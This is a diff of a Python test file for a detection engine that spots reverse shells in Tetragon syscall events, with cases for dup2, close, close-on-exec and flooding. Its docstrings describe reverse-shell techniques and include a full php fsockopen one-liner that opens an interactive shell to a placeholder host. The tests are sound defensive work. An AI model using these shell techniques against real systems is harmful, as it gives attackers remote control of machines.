@@ -12,7 +12,18 @@ import pytest
 
 from stockade.worktrace import AnomalyConfig, Engine, LocalSessions, SessionInfo, load_rules
 
-from .conftest import exec_event, kprobe_event, line, parent_process, process
+from .conftest import (
+    AF_UNIX,
+    CLOEXEC,
+    connect_event,
+    exec_event,
+    kprobe_event,
+    line,
+    parent_process,
+    process,
+    socket_event,
+    syscall_event,
+)
 
 NODE = "node-1"
 PY = "/usr/bin/python3"
@@ -77,8 +88,26 @@ def connect(binary: str = PY) -> dict[str, Any]:
     return kprobe_event("tcp_connect", [sock()], binary=binary)
 
 
+def connected(
+    pid: int, exec_id: str, *, fd: int = 3, binary: str = PY, cloexec: bool = True
+) -> list[dict[str, Any]]:
+    """``s = socket(); s.connect(...)`` in process ``pid``/``exec_id`` as the generated policy
+    reports it: the socket's creation on ``fd``, its connect and ``tcp_connect``."""
+    events = [
+        socket_event(fd, binary=binary, cloexec=cloexec),
+        connect_event(fd, binary=binary),
+        connect(binary),
+    ]
+    return [at(event, pid, exec_id) for event in events]
+
+
 def dup(oldfd: int, newfd: int, *, binary: str = PY) -> dict[str, Any]:
-    return kprobe_event("__x64_sys_dup2", [{"int_arg": oldfd}, {"int_arg": newfd}], binary=binary)
+    """``dup2(oldfd, newfd)``, returning ``newfd``."""
+    return syscall_event("__x64_sys_dup2", [oldfd, newfd], ret=newfd, binary=binary)
+
+
+def close(fd: int, *, binary: str = PY) -> dict[str, Any]:
+    return syscall_event("__x64_sys_close", [fd], binary=binary)
 
 
 def exit_event(binary: str, pid: int, exec_id: str) -> dict[str, Any]:
@@ -125,7 +154,7 @@ def test_reverse_shell_parent_exits_before_the_shell_exec_broke(engine_rules: An
     the child execs sh. The parent's ``process_exit`` came before the child's exec and took
     the mark with it, so the shell on the socket fired nothing."""
     events = [
-        at(connect(), 4500, "cHk="),
+        *connected(4500, "cHk="),
         at(dup(3, 0), 4500, "cHk="),
         exit_event(PY, 4500, "cHk="),
         at(exec_event("/bin/sh", "-i"), 4501, "c2g=", parent=(4500, "cHk=", PY)),
@@ -138,7 +167,7 @@ def test_reverse_shell_after_a_double_fork_broke(engine_rules: Any) -> None:
     parent is a forked copy of python that never exec'd (Tetragon gives it its own exec id
     and pid, and python's binary), whose parent is the connected python."""
     events = [
-        at(connect(), 4600, "cHky"),
+        *connected(4600, "cHky"),
         at(dup(3, 0), 4600, "cHky"),
         exit_event(PY, 4600, "cHky"),
     ]
@@ -152,7 +181,7 @@ def test_exited_mark_is_not_reused_by_a_new_process_of_the_same_pid(engine_rules
     """The mark of an exited process stays with its exec id only: a new process that reuses
     its pid, and that process's children, are not taken for it."""
     events = [
-        at(connect(), 4700, "b2xk"),
+        *connected(4700, "b2xk"),
         at(dup(3, 0), 4700, "b2xk"),
         exit_event(PY, 4700, "b2xk"),
         at(exec_event("/usr/bin/make"), 4700, "bmV3", parent=(1, "aW5pdA==", "/sbin/init")),
@@ -167,7 +196,7 @@ def test_forked_child_of_a_benign_parent_of_the_marked_process_is_benign(
     """A shell whose parent is a fork of the marked process's *parent* (another binary) is
     not on the marked process's descriptors."""
     events = [
-        at(connect(), 4800, "bWFyaw=="),
+        *connected(4800, "bWFyaw=="),
         at(dup(3, 0), 4800, "bWFyaw=="),
     ]
     shell = at(exec_event("/bin/sh"), 4802, "c2g0", parent=(4801, "c2libA==", "/usr/bin/make"))
@@ -176,84 +205,402 @@ def test_forked_child_of_a_benign_parent_of_the_marked_process_is_benign(
     assert not fired_over(engine_rules, events)[-1]
 
 
-# --- reverse shell on stdio: what the dup2/tcp_connect events cannot see -------------------
+# --- reverse shell on stdio: the descriptor tables ---------------------------------------
 
 
-@pytest.mark.xfail(
-    strict=True,
-    reason="dup2(s, 0) comes before connect(s): telling s from a descriptor closed and reused "
-    "since (nohup's /dev/null on fd 3, then the program's first socket) needs the closes, "
-    "which no hook reports",
-)
-def test_reverse_shell_dup2_before_connect(engine_rules: Any) -> None:
-    """``s = socket(); os.dup2(s.fileno(), 0); s.connect(...); pty.spawn("sh")``."""
+def test_reverse_shell_dup2_before_connect_broke(engine_rules: Any) -> None:
+    """BROKE (xfail): ``s = socket(); os.dup2(s.fileno(), 0); s.connect(...); pty.spawn("sh")``.
+    The dup2 came before any connect, and telling fd 3 from a descriptor closed and reused
+    needed the socket's creation and the closes. fd 0 is now a copy of the socket (one open
+    file), and its connect through fd 3 connects the copy as well."""
     events = [
+        at(socket_event(3), 4900, "YmVm"),
         at(dup(3, 0), 4900, "YmVm"),
+        at(connect_event(3), 4900, "YmVm"),
         at(connect(), 4900, "YmVm"),
         at(exec_event("/bin/sh"), 4901, "c2g1", parent=(4900, "YmVm", PY)),
     ]
     assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
 
 
-def sys_connect(fd: int, *, binary: str = PY) -> dict[str, Any]:
-    """A ``connect`` kprobe as the generated policy asks for it (its socket's descriptor)."""
-    return kprobe_event("__x64_sys_connect", [{"int_arg": fd}], binary=binary)
+def test_dup2_of_a_descriptor_that_never_connects_is_benign(engine_rules: Any) -> None:
+    """A socket on stdin whose connect failed (refused) is no connection."""
+    events = [
+        at(socket_event(3), 4950, "bm9j"),
+        at(dup(3, 0), 4950, "bm9j"),
+        at(connect_event(3, ret=-111), 4950, "bm9j"),  # -ECONNREFUSED
+        at(exec_event("/bin/sh"), 4951, "c2g5", parent=(4950, "bm9j", PY)),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
 
 
 def test_reverse_shell_socket_lands_on_fd_0_broke(engine_rules: Any) -> None:
     """BROKE: ``os.close(0); s = socket(); s.connect(...)``: the socket is fd 0, no dup at all,
-    and the shell run on it fired nothing. A connect of fd 0 now marks the process."""
+    and the shell run on it fired nothing."""
     events = [
-        at(sys_connect(0), 5100, "ZmQw"),
-        at(connect(), 5100, "ZmQw"),
+        at(close(0), 5100, "ZmQw"),
+        *connected(5100, "ZmQw", fd=0),
         at(exec_event("/bin/sh"), 5101, "c2g2", parent=(5100, "ZmQw", PY)),
     ]
     assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
 
 
+def test_connect_of_stdin_whose_socket_was_not_seen_created_fires(engine_rules: Any) -> None:
+    """A connect of a descriptor whose socket's creation the table did not see (opened before
+    the policy was loaded, received over a unix socket, lost): it is a socket (connect
+    succeeded) of unknown family, taken for a network one (fail closed)."""
+    events = [
+        at(connect_event(0), 5120, "ZmQx"),
+        at(connect(), 5120, "ZmQx"),
+        at(exec_event("/bin/sh"), 5121, "c2g3", parent=(5120, "ZmQx", PY)),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+def test_unix_socket_on_stdin_is_not_a_network_connection(engine_rules: Any) -> None:
+    """``close(0); socket(AF_UNIX); connect("/run/...")``: a local socket on stdin."""
+    events = [
+        at(close(0), 5130, "dW5p"),
+        at(socket_event(0, family=AF_UNIX), 5130, "dW5p"),
+        at(connect_event(0), 5130, "dW5p"),
+        at(exec_event("/bin/sh"), 5131, "c2g6", parent=(5130, "dW5p", PY)),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
 def test_connect_of_another_descriptor_marks_nothing(engine_rules: Any) -> None:
     """Every program connects: a connect of fd 3 (its stdin untouched) is not a reverse shell."""
     events = [
-        at(sys_connect(3), 5150, "ZmQz"),
-        at(connect(), 5150, "ZmQz"),
+        *connected(5150, "ZmQz"),
         at(exec_event("/bin/sh", "-c make"), 5151, "c2g4", parent=(5150, "ZmQz", PY)),
     ]
     assert not set().union(*fired_over(engine_rules, events))
 
 
+def test_close_then_reuse_of_stdin_by_a_pipe_is_benign(engine_rules: Any) -> None:
+    """The socket was dup'ed onto stdin, then fd 0 closed and reused by ``os.pipe()`` (which
+    returns the lowest free descriptors, (0, 4): no hooked call names them): the shell reads
+    a pipe."""
+    events = [
+        *connected(5200, "cGlw"),
+        at(dup(3, 0), 5200, "cGlw"),
+        at(close(0), 5200, "cGlw"),
+        at(exec_event("/bin/sh", "-c make"), 5201, "c2g3", parent=(5200, "cGlw", PY)),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+@pytest.mark.parametrize(
+    "replace",
+    [
+        [close(0)],  # then open("/dev/null") returns 0: no hooked call
+        [dup(4, 0)],  # dup2(open("/dev/null"), 0): a copy of no socket
+        [syscall_event("__x64_sys_dup3", [4, 0, 0], ret=0)],
+        [close(0), syscall_event("__x64_sys_dup", [4], ret=0)],
+        [close(0), syscall_event("__x64_sys_fcntl", [4, 0, 0], ret=0)],  # F_DUPFD
+        [syscall_event("__x64_sys_close_range", [0, 0, 0], ret=0)],
+    ],
+    ids=["close-open", "dup2", "dup3", "close-dup", "close-fcntl", "close_range"],
+)
+def test_socket_on_stdin_replaced_by_dev_null_before_exec_is_benign(
+    engine_rules: Any, replace: list[dict[str, Any]]
+) -> None:
+    """``dup2(s, 0)``, then stdin pointed at /dev/null (fd 4) before ``execv("/bin/sh")``."""
+    events = [*connected(5250, "bnVs"), at(dup(3, 0), 5250, "bnVs")]
+    events += [at(event, 5250, "bnVs") for event in replace]
+    events.append(at(exec_event("/bin/sh", "-c make"), 5250, "c2g4"))
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+def test_close_range_that_fails_closes_nothing(engine_rules: Any) -> None:
+    """``close_range(0, ~0, 0x80)``: an unknown flag is EINVAL and closes nothing."""
+    events = [
+        *connected(5260, "ZmFp"),
+        at(dup(3, 0), 5260, "ZmFp"),
+        at(syscall_event("__x64_sys_close_range", [0, -1, 0x80], ret=-22), 5260, "ZmFp"),
+        at(exec_event("/bin/sh"), 5260, "c2g5"),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+def test_reverse_shell_dup_to_stdio_in_a_grandchild_after_two_forks(engine_rules: Any) -> None:
+    """python connects fd 3, forks, the child forks again (neither execs, the first does no
+    hooked call: Tetragon reports neither fork), and the grandchild dup2()s the socket onto
+    0, 1, 2 and execs sh. The grandchild is first seen at its dup2: it inherits the table of
+    its parent's parent, the parent being a fork of it (same binary) with no table of its
+    own."""
+    fork = (5301, "Zm9yazE=", PY)
+    events = connected(5300, "Z3Jk")
+    for fd in (0, 1, 2):
+        event = at(dup(3, fd), 5302, "Zm9yazI=", parent=fork)
+        _body(event)["parent"]["parent_exec_id"] = "Z3Jk"
+        events.append(event)
+    shell = at(exec_event("/bin/sh", "-i"), 5302, "c2g2", parent=fork)
+    _body(shell)["parent"]["parent_exec_id"] = "Z3Jk"
+    events.append(shell)
+    fired = fired_over(engine_rules, events)
+    assert fired[-1] == {"reverse-shell-stdio"}
+    assert not set().union(*fired[:-1])
+
+
+def test_close_on_exec_socket_is_gone_in_the_exec_d_child(engine_rules: Any) -> None:
+    """python's socket is close-on-exec: in ``os.system("sh -c 'sh -i <&3'")`` the exec of
+    ``sh -c`` closed fd 3, so its dup2(3, 0) fails (EBADF) and no shell runs on the socket."""
+    events = [
+        *connected(5400, "Y2xv"),
+        at(exec_event("/bin/sh", "-c sh -i <&3"), 5401, "c2hj", parent=(5400, "Y2xv", PY)),
+        at(syscall_event("__x64_sys_dup2", [3, 0], ret=-9), 5401, "c2hj"),
+        at(exec_event("/bin/sh", "-i"), 5402, "c2hp", parent=(5401, "c2hj", "/bin/sh")),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+@pytest.mark.parametrize(
+    "inheritable",
+    [
+        syscall_event("__x64_sys_ioctl", [3, 0x5450]),  # s.set_inheritable(True): FIONCLEX
+        syscall_event("__x64_sys_fcntl", [3, 2, 0], ret=0),  # fcntl(3, F_SETFD, 0)
+    ],
+    ids=["ioctl-FIONCLEX", "fcntl-F_SETFD"],
+)
+def test_reverse_shell_through_a_socket_made_inheritable(
+    engine_rules: Any, inheritable: dict[str, Any]
+) -> None:
+    """``s.set_inheritable(True); os.system("sh -c 'sh -i <&3 >&3'")``: the close-on-exec
+    flag cleared, fd 3 survives the exec and the child's shell dup2()s it onto stdin."""
+    events = [
+        *connected(5450, "aW5o"),
+        at(inheritable, 5450, "aW5o"),
+        at(exec_event("/bin/sh", "-c sh -i <&3"), 5451, "c2hq", parent=(5450, "aW5o", PY)),
+        at(dup(3, 0, binary="/bin/sh"), 5451, "c2hq"),
+        at(exec_event("/bin/sh", "-i"), 5452, "c2hr", parent=(5451, "c2hq", "/bin/sh")),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+def test_dup3_with_o_cloexec_onto_stdin_closes_it_at_exec(engine_rules: Any) -> None:
+    """``dup3(s, 0, O_CLOEXEC); execv("/bin/sh")``: the exec closes stdin."""
+    events = [
+        *connected(5470, "Y2xw"),
+        at(syscall_event("__x64_sys_dup3", [3, 0, CLOEXEC], ret=0), 5470, "Y2xw"),
+        at(exec_event("/bin/sh"), 5470, "c2hz"),
+    ]
+    assert not set().union(*fired_over(engine_rules, events))
+
+
+@pytest.mark.parametrize(
+    "copy",
+    [
+        syscall_event("__x64_sys_dup", [3], ret=0),
+        syscall_event("__x64_sys_fcntl", [3, 0, 0], ret=0),  # F_DUPFD
+    ],
+    ids=["dup", "fcntl-F_DUPFD"],
+)
+def test_reverse_shell_close_0_then_dup(engine_rules: Any, copy: dict[str, Any]) -> None:
+    """``os.close(0); os.dup(s.fileno())``: the copy lands on the lowest free descriptor."""
+    events = [*connected(5480, "ZHVw"), at(close(0), 5480, "ZHVw"), at(copy, 5480, "ZHVw")]
+    events.append(at(exec_event("/bin/sh"), 5481, "c2h0", parent=(5480, "ZHVw", PY)))
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+def test_reverse_shell_in_a_child_reparented_before_its_exec(engine_rules: Any) -> None:
+    """``if os.fork(): os._exit(0)``; the child dup2()s the socket onto stdin, and execs sh
+    once its parent has gone: the exec names the reaper (pid 1) as its parent, the child's
+    table (kept by its pid until its own exit) is still its."""
+    events = [
+        *connected(5490, "cmVw"),
+        at(dup(3, 0), 5491, "cmVwMg==", parent=(5490, "cmVw", PY)),
+        exit_event(PY, 5490, "cmVw"),
+        at(exec_event("/bin/sh"), 5491, "c2g3", parent=(1, "aW5pdA==", "/sbin/tini")),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="a child inherits its parent's table as it is at the child's first event, not at the "
+    "fork (Tetragon reports none): a close in the parent between the fork and the child's "
+    "first hooked call takes the socket from the child too. Fix: keep the parent's removed "
+    "sockets with their time and give them to a child whose clone started before (its "
+    "pre-exec start_time), which needs consistent event times in these tests",
+)
+def test_reverse_shell_parent_closes_its_copy_after_the_fork(engine_rules: Any) -> None:
+    """``if os.fork() == 0: time.sleep(1); os.dup2(s.fileno(), 0); os.execv("/bin/sh")``
+    while the parent does ``s.close()`` at once (a fork server's usual close of its copy)."""
+    events = [
+        *connected(5495, "Y2xz"),
+        at(close(3), 5495, "Y2xz"),
+        at(dup(3, 0), 5496, "Y2xzMg==", parent=(5495, "Y2xz", PY)),
+        at(exec_event("/bin/sh"), 5496, "c2g4", parent=(5495, "Y2xz", PY)),
+    ]
+    assert fired_over(engine_rules, events)[-1] == {"reverse-shell-stdio"}
+
+
 # --- reverse shell on stdio: the dup2 in a child that inherited the socket ----------------
 
-_CHILD_DUP_REASON = (
-    "the dup2 onto stdin is in a forked child that connected nothing (subprocess.Popen(stdin=s),"
-    " php exec('sh -i <&3')); telling its inherited socket from a pipe needs the connected "
-    "descriptors (a sys_connect fd hook) and their closes, which the rules and policy lack"
-)
 
-
-@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
-def test_reverse_shell_popen_with_the_socket_as_stdin() -> None:
-    """``s.connect(...); subprocess.Popen(["/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)``."""
+def test_reverse_shell_popen_with_the_socket_as_stdin_broke() -> None:
+    """BROKE (xfail): ``s.connect(...); subprocess.Popen(["/bin/sh", "-i"], stdin=s, ...)``: the
+    dup2 onto stdin is in the forked child, which connected nothing. The child, first seen at
+    its dup2 (under its clone's exec id), inherits python's table; the dup2 puts the socket on
+    its stdin, ``close_range(3, ~0)`` (``close_fds``) and the exec drop the rest."""
     events = [
-        at(connect(), 5500, "cG9w"),
+        *connected(5500, "cG9w"),
         at(dup(3, 0), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
+        at(dup(3, 1), 5501, "cG9wMg==", parent=(5500, "cG9w", PY)),
+        at(
+            syscall_event("__x64_sys_close_range", [3, -1, 0], ret=0),
+            5501,
+            "cG9wMg==",
+            parent=(5500, "cG9w", PY),
+        ),
         at(exec_event("/bin/sh", "-i"), 5501, "c2g3", parent=(5500, "cG9w", PY)),
     ]
     assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]
 
 
-@pytest.mark.xfail(strict=True, reason=_CHILD_DUP_REASON)
-def test_reverse_shell_php_exec_redirects_fd_3() -> None:
-    """``php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'``: php connects,
-    its ``sh -c`` child does the dup2(3, 0) and execs the interactive shell."""
+def test_reverse_shell_php_exec_redirects_fd_3_broke() -> None:
+    """BROKE (xfail): ``php -r '$s=fsockopen("h",4444);exec("/bin/sh -i <&3 >&3 2>&3");'``: php
+    connects (its socket is inheritable), its ``sh -c`` child does the dup2(3, 0) and execs
+    the interactive shell."""
     php = "/usr/bin/php"
     sh_c = "-c /bin/sh -i <&3 >&3 2>&3"
     events = [
-        at(connect(php), 5600, "cGhw"),
+        *connected(5600, "cGhw", binary=php, cloexec=False),
         at(exec_event("/bin/sh", sh_c), 5601, "c2hj", parent=(5600, "cGhw", php)),
         at(dup(3, 0, binary="/bin/sh"), 5601, "c2hj", parent=(5600, "cGhw", php)),
         at(exec_event("/bin/sh", "-i"), 5602, "c2hp", parent=(5601, "c2hj", "/bin/sh")),
     ]
-    assert "reverse-shell-stdio" in fired_over(load_rules(), events)[-1]
+    fired = fired_over(load_rules(), events)
+    assert fired[-1] == {"reverse-shell-stdio"}
+    assert not set().union(*fired[:-1])  # not sh -c itself: its stdin was not the socket
+
+
+def test_php_exec_of_a_shell_reading_a_pipe_is_benign() -> None:
+    php = "/usr/bin/php"
+    events = [
+        *connected(5650, "cGhy", binary=php, cloexec=False),
+        at(exec_event("/bin/sh", "-c sort <&4"), 5651, "c2hr", parent=(5650, "cGhy", php)),
+        at(dup(4, 0, binary="/bin/sh"), 5651, "c2hr", parent=(5650, "cGhy", php)),
+        at(exec_event("/usr/bin/sort"), 5652, "c29y", parent=(5651, "c2hr", "/bin/sh")),
+    ]
+    assert not set().union(*fired_over(load_rules(), events))
+
+
+# --- benign programs that connect and dup -------------------------------------------------
+
+
+def _benign_sessions() -> dict[str, list[dict[str, Any]]]:
+    make, sh, curl, ssh = "/usr/bin/make", "/bin/sh", "/usr/bin/curl", "/usr/bin/ssh"
+    return {
+        # curl https://example.org -o x: a socket, connected, closed at the end
+        "curl": [
+            at(exec_event(curl, "https://example.org -o x"), 6000, "Y3Vy"),
+            *connected(6000, "Y3Vy", binary=curl, fd=5, cloexec=True),
+            at(close(5, binary=curl), 6000, "Y3Vy"),
+            exit_event(curl, 6000, "Y3Vy"),
+        ],
+        # make: sh -c 'curl -s URL | tar x', the pipeline's children dup2 the pipe (fd 3, 4)
+        "make-pipeline": [
+            at(exec_event(make, "all"), 6100, "bWFr"),
+            at(exec_event(sh, "-c curl -s URL | tar x"), 6101, "c2gx", parent=(6100, "bWFr", make)),
+            at(dup(4, 1, binary=sh), 6102, "Zm9y", parent=(6101, "c2gx", sh)),
+            at(exec_event(curl, "-s URL"), 6102, "Y3Vy", parent=(6101, "c2gx", sh)),
+            *connected(6102, "Y3Vy", binary=curl, fd=5),
+            at(dup(3, 0, binary=sh), 6103, "Zm9yMg==", parent=(6101, "c2gx", sh)),
+            at(exec_event("/bin/tar", "x"), 6103, "dGFy", parent=(6101, "c2gx", sh)),
+            at(exec_event(sh, "-c cc -c a.c"), 6104, "c2gy", parent=(6100, "bWFr", make)),
+        ],
+        # ssh with a ProxyCommand: ssh forks sh -c with pipes on its stdio, then connects
+        "ssh": [
+            at(exec_event(ssh, "-o ProxyCommand=nc %h %p forge"), 6200, "c3No"),
+            at(dup(5, 0, binary=ssh), 6201, "Zm9yMw==", parent=(6200, "c3No", ssh)),
+            at(dup(6, 1, binary=ssh), 6201, "Zm9yMw==", parent=(6200, "c3No", ssh)),
+            at(exec_event(sh, "-c nc forge 22"), 6201, "c2gz", parent=(6200, "c3No", ssh)),
+            at(exec_event("/usr/bin/nc", "forge 22"), 6201, "bmM=", parent=(6200, "c3No", ssh)),
+            *connected(6201, "bmM=", binary="/usr/bin/nc", fd=3, cloexec=False),
+            *connected(6200, "c3No", binary=ssh, fd=7),  # ssh -J / a second connection
+            at(exec_event(sh, "-c ssh-askpass"), 6202, "YXNr", parent=(6200, "c3No", ssh)),
+        ],
+    }
+
+
+@pytest.mark.parametrize("name", sorted(_benign_sessions()))
+def test_benign_programs_that_connect_and_dup(engine_rules: Any, name: str) -> None:
+    assert not set().union(*fired_over(engine_rules, _benign_sessions()[name]))
+
+
+# --- reverse shell on stdio: bounded descriptor tables ------------------------------------
+
+
+def _template(event: dict[str, Any]) -> str:
+    """``event``'s line with ``{pid}``, ``{exec_id}`` and ``{fd}`` to fill (floods of
+    thousands of events, built fast)."""
+    text = line(event).decode()
+    for value, name in (("987654", "{pid}"), ("RVhFQ0lE", "{exec_id}"), ("876543", "{fd}")):
+        text = text.replace(value, name)
+    return text
+
+
+FLOOD = 10_000  # the caps below are scaled down with it: 156x max_fd_processes, 625x max_fds
+
+
+def test_a_flood_of_sockets_does_not_grow_a_table_nor_hide_the_shell() -> None:
+    """A process opens far more sockets than a table follows (``max_fds``), then dup2()s an
+    unfollowed one onto stdin: the table stays at its limit, and the untracked descriptor on
+    stdin is taken for a socket (fail closed)."""
+    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fds=16)
+    opened = _template(at(socket_event(876543), 5700, "bWFueQ=="))
+    for fd in range(3, FLOOD + 3):
+        engine.feed(opened.replace("{fd}", str(fd)))
+    engine.feed(line(at(connect_event(FLOOD + 2), 5700, "bWFueQ==")))
+    engine.feed(line(at(dup(FLOOD + 2, 0), 5700, "bWFueQ==")))
+    shell = at(exec_event("/bin/sh"), 5701, "c2g4", parent=(5700, "bWFueQ==", PY))
+    assert rule_ids(engine, shell) == {"reverse-shell-stdio"}
+    assert max(len(table.fds) for table in engine._fd_tables) <= 16 + 1  # and stdin
+
+
+def test_a_fork_flood_does_not_evict_a_live_reverse_shell() -> None:
+    """With the socket on python's stdin, the attacker runs a flood of processes that each
+    open a socket (half of them exit at once): the tables stay within ``max_fd_processes``,
+    the live process with a socket on its stdin is evicted last, and its shell fires."""
+    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=64)
+    for event in [*connected(5800, "cmVhbA=="), at(dup(3, 0), 5800, "cmVhbA==")]:
+        engine.feed(line(event))
+    opened = _template(at(socket_event(3), 987654, "RVhFQ0lE", parent=(5900, "YXR0", PY)))
+    gone = _template(exit_event(PY, 987654, "RVhFQ0lE"))
+    for n in range(FLOOD):
+        pid, exec_id = str(10_000 + n), f"Zmxvb2Q{n}"
+        engine.feed(opened.replace("{pid}", pid).replace("{exec_id}", exec_id))
+        if n % 2:
+            engine.feed(gone.replace("{pid}", pid).replace("{exec_id}", exec_id))
+        assert engine.stats()["fd_tables"] <= 64
+    shell = at(exec_event("/bin/sh"), 5801, "c2g1", parent=(5800, "cmVhbA==", PY))
+    assert rule_ids(engine, shell) == {"reverse-shell-stdio"}
+    assert engine.stats()["fd_evicted_armed"] == 0
+
+
+def test_a_flood_of_sockets_on_stdin_is_what_evicts_one() -> None:
+    """The price of pushing out a live socket-on-stdin table: more live processes with a
+    socket on their stdin than ``max_fd_processes`` (each a reverse shell of its own, whose
+    shell would fire); the evictions are counted."""
+    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False), max_fd_processes=64)
+    for n in range(200):
+        pid, exec_id = 30_000 + n, f"YXJt{n}"
+        for event in (*connected(pid, exec_id), at(dup(3, 0), pid, exec_id)):
+            engine.feed(line(event))
+    assert engine.stats()["fd_tables"] <= 64
+    assert engine.stats()["fd_evicted_armed"] > 0
+
+
+def test_exits_free_the_tables() -> None:
+    engine = Engine(load_rules(), anomaly=AnomalyConfig(enabled=False))
+    for n in range(1000):
+        pid, exec_id = 20_000 + n, f"c2hvcnQ{n}"
+        for event in (*connected(pid, exec_id), at(close(3), pid, exec_id)):
+            engine.feed(line(event))
+        engine.feed(line(exit_event(PY, pid, exec_id)))
+    assert engine.stats()["fd_tables"] == 0
 
 
 # --- local sessions: pushing the session's processes out of the process table -------------
